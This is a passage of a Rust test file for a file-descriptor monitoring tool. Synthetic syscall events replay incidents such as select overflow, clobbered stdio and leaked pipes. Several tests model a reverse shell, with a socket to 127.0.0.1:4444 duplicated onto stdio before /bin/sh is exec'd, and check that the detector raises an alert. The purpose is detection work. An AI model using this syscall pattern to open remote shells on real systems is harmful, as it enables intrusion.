//! The detectors against synthetic event sequences that retell the incidents (no root).
use std::time::Duration;

use fdwatch_common::{AddrPayload, FdObject, Kind, NewFd, OpenPayload, PATH_LEN, Path, SockAddr, WaitPayload};

use super::{
    Config, Detectors, Output,
    alert::{Alert, Evidence, Severity},
};
use crate::{
    clock::Clock,
    decode::{Event, Payload},
    model::{Model, synthetic::*},
    value::Value,
};

const MS: u64 = 1_000_000;
const EISCONN: i64 = 106;
const EALREADY: i64 = 114;
const O_RDONLY: u64 = 0;
const O_WRONLY: u64 = 1;
const O_RDWR: u64 = 2;

/// The collector's loop without I/O: before, apply, after, and the timers.
struct Run {
    model: Model,
    det: Detectors,
    out: Vec<Output>,
}

impl Run {
    /// Process 100 (comm "sh") with fds 0-2 on a tty, as read at startup.
    fn new() -> Self {
        Self::with(Config::default())
    }

    fn with(config: Config) -> Self {
        Self { model: model_with(100), det: Detectors::new(config, Clock::fixed(0)), out: Vec::new() }
    }

    fn feed(&mut self, event: Event) -> &mut Self {
        self.det.before(&self.model, &event);
        self.model.apply(&event);
        self.det.after(&self.model, &event);
        self.out.extend(self.det.take());
        self
    }

    fn tick(&mut self, now: u64) -> &mut Self {
        self.det.tick(&self.model, now);
        self.out.extend(self.det.take());
        self
    }

    fn finish(&mut self, now: u64) -> &mut Self {
        self.det.finish(now);
        self.out.extend(self.det.take());
        self
    }

    fn alerts(&self) -> Vec<&Alert> {
        self.out.iter().filter_map(|o| if let Output::Alert(a) = o { Some(a) } else { None }).collect()
    }
}

fn field<'a>(a: &'a Alert, name: &str) -> &'a Value {
    &a.fields.iter().find(|(k, _)| *k == name).unwrap_or_else(|| panic!("no field {name} in {a:?}")).1
}

fn str_field<'a>(a: &'a Alert, name: &str) -> &'a str {
    match field(a, name) {
        Value::Str(s) => s,
        v => panic!("{name} is {v:?}"),
    }
}

fn fds_field(a: &Alert) -> Vec<i64> {
    match field(a, "fds") {
        Value::List(v) => v.iter().map(|x| if let Value::Int(i) = x { *i } else { -1 }).collect(),
        v => panic!("fds is {v:?}"),
    }
}

fn symptoms(a: &Alert) -> Vec<(Kind, i64)> {
    a.evidence
        .iter()
        .filter_map(|e| if let Evidence::Symptom(ev) = e { Some((ev.kind, ev.ret().unwrap())) } else { None })
        .collect()
}

fn sockaddr_in(ip: [u8; 4], port: u16) -> SockAddr {
    let mut a = SockAddr { len: 16, ..Default::default() };
    a.bytes[..2].copy_from_slice(&2u16.to_ne_bytes());
    a.bytes[2..4].copy_from_slice(&port.to_be_bytes());
    a.bytes[4..8].copy_from_slice(&ip);
    a
}

fn unix_socket(pid: u32, ts: u64, fd: i32, ino: u64) -> Event {
    let object = FdObject { ino, mode: SOCK, file_flags: 2, valid: 1, ..Default::default() };
    call(Kind::Socket, pid, ts, fd as i64, &[1, 1, 0], Payload::NewFd(NewFd { object }))
}

fn udp_socket(pid: u32, ts: u64, fd: i32, ino: u64) -> Event {
    let object = FdObject { ino, mode: SOCK, file_flags: 2, valid: 1, ..Default::default() };
    call(Kind::Socket, pid, ts, fd as i64, &[2, 2, 0], Payload::NewFd(NewFd { object }))
}

fn connect(pid: u32, ts: u64, fd: i32, ret: i64) -> Event {
    call(
        Kind::Connect,
        pid,
        ts,
        ret,
        &[fd as u64, 0, 16],
        Payload::Addr(AddrPayload { addr: sockaddr_in([127, 0, 0, 1], 4444) }),
    )
}

fn sendto(pid: u32, ts: u64, fd: i32, ret: i64) -> Event {
    call(
        Kind::Sendto,
        pid,
        ts,
        ret,
        &[fd as u64, 0, 5, 0, 0, 16],
        Payload::Addr(AddrPayload { addr: sockaddr_in([127, 0, 0, 1], 8125) }),
    )
}

fn dup2(pid: u32, ts: u64, old: i32, new: i32) -> Event {
    call(Kind::Dup2, pid, ts, new as i64, &[old as u64, new as u64], Payload::None)
}

fn close(pid: u32, ts: u64, fd: i32) -> Event {
    call(Kind::Close, pid, ts, 0, &[fd as u64], Payload::None)
}

fn open(pid: u32, ts: u64, fd: i32, path: &str, flags: u64, rdev: u32) -> Event {
    let mode = if rdev != 0 { 0o020666 } else { 0o100644 };
    let object = FdObject { ino: 77 + fd as u64, mode, rdev, file_flags: flags as u32, valid: 1, ..Default::default() };
    let mut p = Path { len: path.len() as u32, truncated: 0, bytes: [0; PATH_LEN] };
    p.bytes[..path.len()].copy_from_slice(path.as_bytes());
    call(
        Kind::Openat,
        pid,
        ts,
        fd as i64,
        &[-100i64 as u64, 0, flags],
        Payload::Open(OpenPayload { object, how: [0; 3], tty_index: -1, _pad: 0, path: p }),
    )
}

fn select(pid: u32, ts: u64, nfds: u64) -> Event {
    call(Kind::Select, pid, ts, 1, &[nfds], Payload::Wait(WaitPayload::default()))
}

// ---- select_high_fd ----

/// Incident 2: a monitor's 1030 UDP sockets without CLOEXEC, inherited by a probe
/// whose new TCP socket gets fd 1033; select overflows; connect() says EALREADY.
fn incident_2() -> Run {
    let mut run = Run::new();
    for fd in 3..1033 {
        run.feed(udp_socket(100, 10, fd, 1000 + fd as u64));
    }
    run.feed(fork(100, 200, 20, false, false)).feed(exec(200, 30, "/usr/bin/python3"));
    run.feed(socket(200, 40, 1033, 5000, false)).feed(connect(200, 41, 1033, -115));
    run.feed(select(200, 50 * MS, 1034)).feed(connect(200, 50 * MS + 7_000, 1033, -EALREADY));
    run
}

#[test]
fn select_above_fd_setsize_is_one_critical_alert_with_provenance_and_symptom() {
    let mut run = incident_2();
    run.tick(50 * MS + 100 * MS);
    assert!(run.alerts().is_empty(), "held for the symptom window");
    run.tick(50 * MS + 300 * MS);
    let alerts = run.alerts();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let a = alerts[0];
    assert_eq!((a.kind.name(), a.severity, a.pid), ("select_high_fd", Severity::Critical, 200));
    assert_eq!(field(a, "nfds"), &Value::Int(1034));
    assert_eq!(field(a, "high_fds"), &Value::Int(10));
    assert!(a.message.contains("nfds=1034"), "{}", a.message);
    assert!(a.message.contains("1030 of its 1034 fds are sockets"), "{}", a.message);
    assert!(a.message.contains("inherited from pid 100"), "{}", a.message);
    assert!(a.message.contains("kept across exec without CLOEXEC"), "{}", a.message);
    assert_eq!(symptoms(a), vec![(Kind::Connect, -EALREADY)]);
    let facts: Vec<&str> = a
        .evidence
        .iter()
        .filter_map(|e| if let Evidence::Fact(f) = e { Some(f.text.as_str()) } else { None })
        .collect();
    assert!(facts.iter().any(|f| f.starts_with("fd 1024-1032 (9 sockets)")), "{facts:#?}");
    assert!(facts.iter().any(|f| f.starts_with("fd 1033 (1 socket)")), "{facts:#?}");
}

#[test]
fn select_repeats_are_counted_not_repeated() {
    let mut run = incident_2();
    run.tick(400 * MS);
    for i in 0..5 {
        run.feed(select(200, 500 * MS + i, 1034));
    }
    run.tick(2_000 * MS);
    assert_eq!(run.alerts().len(), 1);
    assert!(!run.out.iter().any(|o| matches!(o, Output::Repeat { .. })), "not before the interval");
    run.tick(11_000 * MS);
    let repeats: Vec<u64> =
        run.out.iter().filter_map(|o| if let Output::Repeat { count, .. } = o { Some(*count) } else { None }).collect();
    assert_eq!(repeats, vec![5]);
    // The count goes out when the process exits, too.
    run.feed(select(200, 12_000 * MS, 1034)).feed(exit(200, 12_001 * MS));
    let repeats: Vec<u64> =
        run.out.iter().filter_map(|o| if let Output::Repeat { count, .. } = o { Some(*count) } else { None }).collect();
    assert_eq!(repeats, vec![5, 1]);
}

#[test]
fn select_repeats_within_the_window_are_counted_too() {
    let mut run = incident_2();
    run.feed(select(200, 51 * MS, 1034)).feed(select(200, 52 * MS, 1034)).feed(exit(200, 60 * MS));
    let repeats: Vec<u64> =
        run.out.iter().filter_map(|o| if let Output::Repeat { count, .. } = o { Some(*count) } else { None }).collect();
    assert_eq!((run.alerts().len(), repeats), (1, vec![2]));
}

#[test]
fn select_and_poll_with_small_nfds_raise_nothing() {
    let mut run = Run::new();
    run.feed(socket(100, 1, 3, 9, false)).feed(select(100, 2, 4)).feed(select(100, 3, 1024));
    run.finish(10_000 * MS);
    assert!(run.out.is_empty(), "{:#?}", run.out);
}

// ---- stdio_hijack ----

#[test]
fn reverse_shell_dup2s_are_one_critical_alert_naming_all_three_fds() {
    let mut run = Run::new();
    run.feed(socket(100, 1, 3, 9, false)).feed(connect(100, 2, 3, 0));
    run.feed(dup2(100, 3, 3, 1)).feed(dup2(100, 4, 1, 2)).feed(dup2(100, 5, 1, 0));
    // bash restores a saved copy of the socket onto stderr: not a new hijack.
    run.feed(call(Kind::Fcntl, 100, 6, 10, &[2, 0, 10], Payload::None)).feed(dup2(100, 7, 10, 2));
    run.tick(1_000 * MS);
    let alerts = run.alerts();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let a = alerts[0];
    assert_eq!((a.severity, a.pid, str_field(a, "shape")), (Severity::Critical, 100, "socket_onto_stdio"));
    assert_eq!(fds_field(a), vec![0, 1, 2]);
    assert!(a.message.contains("AF_INET SOCK_STREAM socket connected to 127.0.0.1:4444"), "{}", a.message);
    assert!(a.message.contains("stdin (fd 0), stdout (fd 1) and stderr (fd 2)"), "{}", a.message);
    let dups = a.evidence.iter().filter(|e| matches!(e, Evidence::Event(ev) if ev.kind == Kind::Dup2)).count();
    assert_eq!(dups, 3);
}

#[test]
fn a_child_of_a_reverse_shell_restoring_its_saved_stderr_is_no_new_alert() {
    let mut run = Run::new();
    run.feed(socket(100, 1, 3, 9, false)).feed(connect(100, 2, 3, 0));
    for fd in 0..3 {
        run.feed(dup2(100, 3 + fd as u64, 3, fd));
    }
    run.tick(1_000 * MS);
    // A command in that shell: `cmd 2>/dev/null` saves fd 2, redirects, restores.
    run.feed(fork(100, 200, 2_000 * MS, false, false));
    run.feed(call(Kind::Fcntl, 200, 2_001 * MS, 10, &[2, 0, 10], Payload::None));
    run.feed(open(200, 2_002 * MS, 4, "/dev/null", O_WRONLY, 1 << 20 | 3)).feed(dup2(200, 2_003 * MS, 4, 2));
    run.feed(dup2(200, 2_004 * MS, 10, 2));
    run.finish(3_000 * MS);
    let pids: Vec<u32> = run.alerts().iter().map(|a| a.pid).collect();
    assert_eq!(pids, vec![100], "{:#?}", run.alerts());
}

#[test]
fn allowlisted_programs_may_put_sockets_on_stdio() {
    let config = Config { allow: vec!["sh".into()], ..Config::default() };
    let mut run = Run::with(config);
    run.feed(socket(100, 1, 3, 9, false)).feed(dup2(100, 2, 3, 0)).feed(close(100, 3, 3));
    run.finish(1_000 * MS);
    assert!(run.out.is_empty(), "{:#?}", run.out);
}

#[test]
fn shells_and_daemons_rearranging_stdio_raise_nothing() {
    let mut run = Run::new();
    // `cmd | other > file 2>&1`: a pipe and a file dup2'd on; bash's `> file` opens
    // onto the freed number itself.
    run.feed(pipe(100, 1, [3, 4], 50, 0)).feed(dup2(100, 2, 4, 1)).feed(close(100, 3, 4));
    run.feed(open(100, 4, 5, "/tmp/log", O_WRONLY, 0)).feed(dup2(100, 5, 5, 2)).feed(close(100, 6, 5));
    run.feed(close(100, 7, 1)).feed(open(100, 8, 1, "/tmp/out", O_WRONLY, 0));
    run.feed(close(100, 9, 0)).feed(open(100, 10, 0, "/tmp/in", O_RDONLY, 0));
    // A daemon: close 0-2, reopen /dev/null, dup it onto 1 and 2.
    for fd in 0..3 {
        run.feed(close(100, 20 + fd as u64, fd));
    }
    run.feed(open(100, 30, 0, "/dev/null", O_RDWR, 1 << 20 | 3)).feed(dup2(100, 31, 0, 1)).feed(dup2(100, 32, 0, 2));
    run.finish(1_000 * MS);
    assert!(run.out.is_empty(), "{:#?}", run.out);
}

#[test]
fn a_socket_landing_on_closed_stdin_is_a_warning() {
    let mut run = Run::new();
    run.feed(close(100, 1, 0)).feed(udp_socket(100, 2, 0, 9));
    run.tick(1_000 * MS);
    let alerts = run.alerts();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let a = alerts[0];
    assert_eq!((a.severity, str_field(a, "shape")), (Severity::Warning, "landed_on_stdio"));
    let kinds: Vec<Kind> =
        a.evidence.iter().filter_map(|e| if let Evidence::Event(ev) = e { Some(ev.kind) } else { None }).collect();
    assert_eq!(kinds, vec![Kind::Close, Kind::Socket]);
}

#[test]
fn landings_closed_within_the_window_are_dropped_and_the_rest_counted_per_fd() {
    let mut run = Run::new();
    // `cmd >&-`: the dynamic loader opens its cache and libraries on fd 1 and closes them.
    run.feed(close(100, 1, 1));
    for i in 0..5 {
        run.feed(open(100, 10 + i, 1, "/lib/libc.so.6", O_RDONLY, 0)).feed(close(100, 11 + i, 1));
    }
    run.tick(1_000 * MS);
    assert!(run.out.is_empty(), "{:#?}", run.out);
    // One that stays is a warning; later ones on the same number are repeats.
    run.feed(open(100, 2_000 * MS, 1, "/etc/app.conf", O_RDONLY, 0)).tick(3_000 * MS);
    run.feed(close(100, 3_001 * MS, 1)).feed(open(100, 3_002 * MS, 1, "/etc/other.conf", O_RDONLY, 0));
    run.finish(4_000 * MS);
    assert_eq!(run.alerts().len(), 1, "{:#?}", run.alerts());
    assert!(run.out.iter().any(|o| matches!(o, Output::Repeat { count: 1, .. })), "{:#?}", run.out);
}

#[test]
fn a_data_file_opened_read_write_onto_closed_stdout_is_a_warning() {
    let mut run = Run::new();
    run.feed(close(100, 1, 1)).feed(open(100, 2, 1, "/var/lib/db", O_RDWR, 0));
    run.finish(1_000 * MS);
    assert_eq!(run.alerts().len(), 1);
    assert!(
        run.alerts()[0].message.contains("the file /var/lib/db as its stdout (fd 1)"),
        "{}",
        run.alerts()[0].message
    );
}

/// Incident 1 (statsd): fd 0 closed, the UDP socket lands on it, a unix stream
/// connection is dup2'd over it, sendto() fails with EISCONN: one critical alert.
#[test]
fn statsd_clobber_upgrades_the_landing_to_one_critical_alert_with_its_symptom() {
    let mut run = Run::new();
    run.feed(close(100, 1, 0)).feed(udp_socket(100, 2, 0, 9)).feed(connect(100, 3, 0, 0));
    run.feed(unix_socket(100, 4, 3, 10)).feed(dup2(100, 5, 3, 0)).feed(sendto(100, 6, 0, -EISCONN));
    // The program closes "its UDP socket" at exit: the alert stands.
    run.feed(close(100, 7, 0)).feed(exit(100, 8));
    run.tick(1_000 * MS);
    let alerts = run.alerts();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let a = alerts[0];
    assert_eq!((a.severity, str_field(a, "shape")), (Severity::Critical, "stdio_clobbered"));
    assert_eq!(symptoms(a), vec![(Kind::Sendto, -EISCONN)]);
    let kinds: Vec<Kind> =
        a.evidence.iter().filter_map(|e| if let Evidence::Event(ev) = e { Some(ev.kind) } else { None }).collect();
    assert_eq!(kinds, vec![Kind::Close, Kind::Socket, Kind::Dup2]);
    assert!(a.message.contains("overwrote its stdin (fd 0) with dup2()"), "{}", a.message);
    assert!(a.message.contains("an AF_INET SOCK_DGRAM socket connected to 127.0.0.1:4444"), "{}", a.message);
}

#[test]
fn a_clobber_long_after_the_landing_is_its_own_critical_alert() {
    let mut run = Run::new();
    run.feed(close(100, 1, 0)).feed(udp_socket(100, 2, 0, 9));
    run.tick(1_000 * MS);
    run.feed(unix_socket(100, 2_000 * MS, 3, 10)).feed(dup2(100, 2_001 * MS, 3, 0));
    run.finish(3_000 * MS);
    let shapes: Vec<(&str, Severity)> = run.alerts().iter().map(|a| (str_field(a, "shape"), a.severity)).collect();
    assert_eq!(shapes, vec![("landed_on_stdio", Severity::Warning), ("stdio_clobbered", Severity::Critical)]);
}

// ---- pipe_leak ----

/// Incident 3: python (100) pipes, forks sh (200) with the write end as stdout; sh
/// starts a daemon (300) in the background and exits.
fn incident_3(run: &mut Run) {
    run.feed(pipe(100, 1, [3, 4], 50, O_CLOEXEC));
    run.feed(fork(100, 200, 2, false, false)).feed(dup2(200, 3, 4, 1)).feed(exec(200, 4, "/bin/sh"));
    run.feed(close(100, 5, 4));
    run.feed(fork(200, 300, 6, false, false)).feed(exec(300, 7, "/usr/bin/mysqld_safe"));
    run.feed(exit(200, 10 * MS));
}

#[test]
fn a_daemon_holding_the_write_end_after_its_parent_exited_is_a_pipe_leak() {
    let mut run = Run::new();
    incident_3(&mut run);
    run.tick(500 * MS);
    assert!(run.alerts().is_empty(), "within the grace period");
    run.tick(1_100 * MS);
    let alerts = run.alerts();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let a = alerts[0];
    assert_eq!((a.kind.name(), a.severity, a.pid), ("pipe_leak", Severity::Warning, 100));
    assert_eq!(field(a, "ino"), &Value::Int(50));
    let Value::List(holders) = field(a, "holders") else { panic!() };
    assert_eq!(holders.len(), 1);
    assert_eq!(
        holders[0],
        Value::Object(vec![
            ("pid", Value::Int(300)),
            ("comm", Value::Str("test".into())),
            ("fds", Value::List(vec![Value::Int(1)]))
        ])
    );
    assert!(a.message.contains("will not see EOF on pipe:[50]"), "{}", a.message);
    assert!(a.message.contains("its writer pid 200 (test) exited"), "{}", a.message);
    let id = a.id;
    // The daemon exits: the reader sees EOF now.
    run.feed(exit(300, 5_000 * MS));
    let resolved: Vec<(u64, u64)> = run
        .out
        .iter()
        .filter_map(|o| if let Output::Resolved { id, waited_ns, .. } = o { Some((*id, *waited_ns)) } else { None })
        .collect();
    assert_eq!(resolved, vec![(id, 4_990 * MS)]);
}

#[test]
fn a_holder_that_lets_go_within_the_grace_period_is_no_leak() {
    let mut run = Run::new();
    incident_3(&mut run);
    run.feed(exit(300, 600 * MS));
    run.tick(2_000 * MS).finish(3_000 * MS);
    assert!(run.out.is_empty(), "{:#?}", run.out);
}

#[test]
fn a_background_job_with_its_output_redirected_is_no_leak() {
    let mut run = Run::new();
    run.feed(pipe(100, 1, [3, 4], 50, O_CLOEXEC));
    run.feed(fork(100, 200, 2, false, false)).feed(dup2(200, 3, 4, 1)).feed(exec(200, 4, "/bin/sh"));
    run.feed(close(100, 5, 4));
    // `sleep 30 >/dev/null &`
    run.feed(fork(200, 300, 6, false, false)).feed(open(300, 7, 5, "/dev/null", O_WRONLY, 1 << 20 | 3));
    run.feed(dup2(300, 8, 5, 1)).feed(close(300, 9, 5)).feed(exit(200, 10 * MS));
    run.tick(2_000 * MS).finish(3_000 * MS);
    assert!(run.out.is_empty(), "{:#?}", run.out);
}

#[test]
fn a_pipeline_whose_reader_is_a_sibling_is_no_leak() {
    // sh (100) runs `a | b`: a (200) writes, b (300) reads; a exits while b reads.
    let mut run = Run::new();
    run.feed(pipe(100, 1, [3, 4], 50, 0));
    run.feed(fork(100, 200, 2, false, false)).feed(dup2(200, 3, 4, 1)).feed(close(200, 4, 3)).feed(close(200, 5, 4));
    run.feed(fork(100, 300, 6, false, false)).feed(dup2(300, 7, 3, 0)).feed(close(300, 8, 3)).feed(close(300, 9, 4));
    run.feed(close(100, 10, 3)).feed(close(100, 11, 4));
    run.feed(fork(200, 400, 12, false, false)).feed(exit(200, 13));
    run.tick(Duration::from_secs(5).as_nanos() as u64).finish(6_000 * MS);
    assert!(run.out.is_empty(), "{:#?}", run.out);
}

// ---- hostile records ----

#[test]
fn a_close_whose_register_is_wider_than_the_fd_is_remembered_as_the_close_of_that_fd() {
    // syscall(SYS_close, 0x100000001) closes fd 1 (the kernel takes an unsigned int). An
    // event built by hand keeps the whole register: the detector must not index with it.
    let mut run = Run::new();
    run.feed(call(Kind::Close, 100, 1, 0, &[0x1_0000_0001], Payload::None));
    run.feed(call(Kind::Close, 100, 2, 0, &[u64::MAX], Payload::None));
    // fd 1 was closed for real; a socket landing there names that close as its cause.
    run.feed(close(100, 3, 1)).feed(udp_socket(100, 4, 1, 9)).tick(1_000 * MS);
    let alerts = run.alerts();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let closes: Vec<u64> = alerts[0]
        .evidence
        .iter()
        .filter_map(|e| match e {
            Evidence::Event(ev) if ev.kind == Kind::Close => Some(ev.header.ts_ns),
            _ => None,
        })
        .collect();
    assert_eq!(closes, vec![3]);
}

#[test]
fn an_alert_raised_near_the_end_of_the_clock_still_waits_for_its_symptoms() {
    // A record's time is as hostile as its arguments: the window's end must not wrap
    // round to the start of the clock and release the alert at once.
    let t = u64::MAX - 100 * MS;
    let mut run = Run::new();
    run.feed(select(100, t, 1100)).tick(t + MS);
    assert!(run.alerts().is_empty(), "released before its symptom window: {:#?}", run.out);
    run.finish(u64::MAX);
    assert_eq!(run.alerts().len(), 1);
}

#[test]
fn a_pipe_leak_near_the_end_of_the_clock_still_waits_for_its_grace_period() {
    let t = u64::MAX - 600 * MS;
    let mut run = Run::new();
    run.feed(pipe(100, t + 1, [3, 4], 50, O_CLOEXEC));
    run.feed(fork(100, 200, t + 2, false, false)).feed(dup2(200, t + 3, 4, 1)).feed(exec(200, t + 4, "/bin/sh"));
    run.feed(close(100, t + 5, 4));
    run.feed(fork(200, 300, t + 6, false, false)).feed(exec(300, t + 7, "/usr/bin/mysqld_safe"));
    run.feed(exit(200, t + 10 * MS));
    run.tick(t + 500 * MS);
    assert!(run.alerts().is_empty(), "alerted within the grace period: {:#?}", run.out);
    run.tick(u64::MAX);
    assert_eq!(run.alerts().len(), 1, "the grace period ends with the clock");
}

// ---- agent mode: what the probes drop (fdwatch_common::agent) ----

/// One step of an incident replay. A test's handful of steps: boxing each event would
/// only add noise to the incidents below.
#[allow(clippy::large_enum_variant)]
enum Step {
    Feed(Event),
    Tick(u64),
}

/// What agent mode drops in the kernel, from `pid` at `ts`: successful sends, polls and
/// selects within FD_SETSIZE, on stdio and on the sockets the incidents use; failures of
/// calls that take no fd first, and of calls on an fd from 3 to FD_SETSIZE - 1,
/// with the errnos the symptom rules look for.
fn unneeded_calls(pid: u32, ts: u64) -> Vec<Event> {
    let wait = || Payload::Wait(WaitPayload::default());
    let addr = || Payload::Addr(AddrPayload::default());
    const EBADF: i64 = 9;
    const EAGAIN: i64 = 11;
    const EMFILE: i64 = 24;
    const ENOTTY: i64 = 25;
    const ECONNREFUSED: i64 = 111;
    vec![
        sendto(pid, ts, 0, 5),
        sendto(pid, ts, 3, 5),
        call(Kind::Sendmsg, pid, ts, 5, &[1033, 0, 0], addr()),
        call(Kind::Sendmmsg, pid, ts, 1, &[1, 0, 1, 0], addr()),
        call(Kind::Poll, pid, ts, 1, &[0, 1, 1000], wait()),
        call(Kind::Ppoll, pid, ts, 0, &[0, 1, 0], wait()),
        select(pid, ts, 1024),
        call(Kind::Pselect6, pid, ts, 0, &[4], wait()),
        sendto(pid, ts, 3, -EISCONN),
        sendto(pid, ts, 1023, -EAGAIN),
        connect(pid, ts, 3, -EALREADY),
        connect(pid, ts, 9, -ECONNREFUSED),
        call(Kind::Close, pid, ts, -EBADF, &[7], Payload::None),
        call(Kind::Dup2, pid, ts, -EBADF, &[3, 0], Payload::None),
        call(Kind::Fcntl, pid, ts, -EBADF, &[u64::MAX, 0], Payload::None),
        call(Kind::Ioctl, pid, ts, -ENOTTY, &[4, 0x5401], Payload::None),
        call(Kind::Accept4, pid, ts, -EAGAIN, &[5, 0, 0, 0], addr()),
        call(Kind::Openat, pid, ts, -2, &[u64::MAX - 99, 0, 0], Payload::None),
        call(Kind::Socket, pid, ts, -EMFILE, &[2, 2, 0], Payload::None),
        call(Kind::Pipe2, pid, ts, -EMFILE, &[0, 0], Payload::None),
    ]
}

/// Runs `steps` twice: with every event, plus the calls agent mode drops after each one
/// (as --events would deliver them), and with what the kernel delivers in agent mode.
/// The output must be the same.
fn same_without_unneeded_calls(steps: Vec<Step>) -> Vec<Output> {
    let mut all = Run::new();
    let mut agent = Run::new();
    for step in steps {
        match step {
            Step::Feed(event) => {
                let noise = if event.kind == Kind::Exit {
                    Vec::new()
                } else {
                    unneeded_calls(event.header.pid, event.header.ts_ns)
                };
                for e in std::iter::once(event).chain(noise) {
                    all.feed(e);
                    let (ret, arg0) = match &e.body {
                        crate::decode::Body::Syscall { ret, args, .. } => (*ret, args[0]),
                        _ => (0, 0),
                    };
                    if !fdwatch_common::agent::alerts_never_need(e.kind, ret, arg0) {
                        agent.feed(e);
                    }
                }
            }
            Step::Tick(now) => {
                all.tick(now);
                agent.tick(now);
            }
        }
    }
    all.finish(u64::MAX / 2);
    agent.finish(u64::MAX / 2);
    assert_eq!(format!("{:#?}", all.out), format!("{:#?}", agent.out));
    all.out
}

#[test]
fn agent_mode_drops_only_calls_no_alert_needs() {
    use Step::{Feed, Tick};
    // Incident 2: select_high_fd with its EALREADY symptom.
    let mut steps: Vec<Step> = (3..1033).map(|fd| Feed(udp_socket(100, 10, fd, 1000 + fd as u64))).collect();
    steps.extend([
        Feed(fork(100, 200, 20, false, false)),
        Feed(exec(200, 30, "/usr/bin/python3")),
        Feed(socket(200, 40, 1033, 5000, false)),
        Feed(connect(200, 41, 1033, -115)),
        Feed(select(200, 50 * MS, 1034)),
        Feed(connect(200, 50 * MS + 7_000, 1033, -EALREADY)),
        Tick(400 * MS),
    ]);
    let out = same_without_unneeded_calls(steps);
    assert_eq!(out.iter().filter(|o| matches!(o, Output::Alert(_))).count(), 1, "{out:#?}");

    // Incident 1 (statsd): a landing, then the clobber, with sendto's EISCONN.
    let out = same_without_unneeded_calls(vec![
        Feed(close(100, 1, 0)),
        Feed(udp_socket(100, 2, 0, 9)),
        Feed(connect(100, 3, 0, 0)),
        Feed(unix_socket(100, 4, 3, 10)),
        Feed(dup2(100, 5, 3, 0)),
        Feed(sendto(100, 6, 0, -EISCONN)),
        Feed(close(100, 7, 0)),
        Feed(exit(100, 8)),
        Tick(1_000 * MS),
    ]);
    assert_eq!(out.iter().filter(|o| matches!(o, Output::Alert(_))).count(), 1, "{out:#?}");

    // A reverse shell, its saved stderr put back.
    let out = same_without_unneeded_calls(vec![
        Feed(socket(100, 1, 3, 9, false)),
        Feed(connect(100, 2, 3, 0)),
        Feed(dup2(100, 3, 3, 1)),
        Feed(dup2(100, 4, 1, 2)),
        Feed(dup2(100, 5, 1, 0)),
        Feed(call(Kind::Fcntl, 100, 6, 10, &[2, 0, 10], Payload::None)),
        Feed(dup2(100, 7, 10, 2)),
        Tick(1_000 * MS),
    ]);
    assert_eq!(out.iter().filter(|o| matches!(o, Output::Alert(_))).count(), 1, "{out:#?}");

    // Incident 3: a pipe leak, then its resolution.
    let out = same_without_unneeded_calls(vec![
        Feed(pipe(100, 1, [3, 4], 50, O_CLOEXEC)),
        Feed(fork(100, 200, 2, false, false)),
        Feed(dup2(200, 3, 4, 1)),
        Feed(exec(200, 4, "/bin/sh")),
        Feed(close(100, 5, 4)),
        Feed(fork(200, 300, 6, false, false)),
        Feed(exec(300, 7, "/usr/bin/mysqld_safe")),
        Feed(exit(200, 10 * MS)),
        Tick(500 * MS),
        Tick(1_100 * MS),
        Feed(exit(300, 5_000 * MS)),
    ]);
    assert!(out.iter().any(|o| matches!(o, Output::Resolved { .. })), "{out:#?}");
}

// ---- stdio_hijack round 2: every way onto stdio, severity by shape ----

fn dup(pid: u32, ts: u64, old: i32, ret: i32) -> Event {
    call(Kind::Dup, pid, ts, ret as i64, &[old as u64], Payload::None)
}

fn fcntl(pid: u32, ts: u64, fd: i32, cmd: u64, arg: u64, ret: i64) -> Event {
    call(Kind::Fcntl, pid, ts, ret, &[fd as u64, cmd, arg], Payload::None)
}

const F_DUPFD: u64 = 0;
const F_SETFD: u64 = 2;
const F_DUPFD_CLOEXEC: u64 = 1030;

/// A TCP socket on fd 3 of `pid`, connected to 127.0.0.1:4444.
fn connected(run: &mut Run, pid: u32, ts: u64, fd: i32, ino: u64) {
    run.feed(socket(pid, ts, fd, ino, false)).feed(connect(pid, ts + 1, fd, 0));
}

fn shapes(run: &Run) -> Vec<(u32, &str, Severity)> {
    run.alerts().iter().map(|a| (a.pid, str_field(a, "shape"), a.severity)).collect()
}

#[test]
fn close_then_dup_of_a_socket_then_exec_of_a_shell_is_one_critical_alert() {
    let mut run = Run::new();
    run.feed(exec_args(100, 1, "/usr/bin/rev", &["rev"]));
    connected(&mut run, 100, 2, 3, 9);
    run.feed(close(100, 4, 0)).feed(dup(100, 5, 3, 0)).feed(close(100, 6, 1)).feed(dup(100, 7, 3, 1));
    run.feed(exec_args(100, 8, "/bin/sh", &["sh"]));
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(100, "socket_onto_stdio", Severity::Critical)], "{:#?}", run.alerts());
    let a = run.alerts()[0];
    assert_eq!(fds_field(a), vec![0, 1]);
    assert!(a.message.contains("with dup(), then exec'd /bin/sh"), "{}", a.message);
    assert!(a.message.contains("reading its commands from stdin"), "{}", a.message);
}

#[test]
fn a_lone_socket_on_stdin_of_a_program_that_is_no_shell_is_a_warning() {
    let mut run = Run::new();
    run.feed(exec_args(100, 1, "/usr/bin/rev", &["rev"]));
    connected(&mut run, 100, 2, 3, 9);
    run.feed(close(100, 4, 0)).feed(dup(100, 5, 3, 0));
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(100, "socket_onto_stdio", Severity::Warning)]);
    let m = &run.alerts()[0].message;
    assert!(m.contains("on its stdin (fd 0), with dup(): what it reads from stdin comes from 127.0.0.1:4444"), "{m}");
    assert!(m.contains("not a remote shell's shape") && !m.contains("writes to stdout"), "{m}");
}

#[test]
fn f_dupfd_cloexec_onto_stdio_counts_only_if_it_survives_the_exec() {
    // fcntl(sock, F_DUPFD_CLOEXEC, 0) onto the closed fd 0 and 1, then exec: gone.
    let mut run = Run::new();
    run.feed(exec_args(100, 1, "/usr/bin/python3", &["python3", "x.py"]));
    connected(&mut run, 100, 2, 3, 9);
    run.feed(close(100, 4, 0)).feed(fcntl(100, 5, 3, F_DUPFD_CLOEXEC, 0, 0));
    run.feed(close(100, 6, 1)).feed(fcntl(100, 7, 3, F_DUPFD_CLOEXEC, 1, 1));
    run.feed(exec_args(100, 8, "/bin/sh", &["sh"]));
    run.finish(1_000 * MS);
    assert!(run.alerts().is_empty(), "{:#?}", run.alerts());
    // The same with F_SETFD clearing FD_CLOEXEC on both: a shell on the socket.
    let mut run = Run::new();
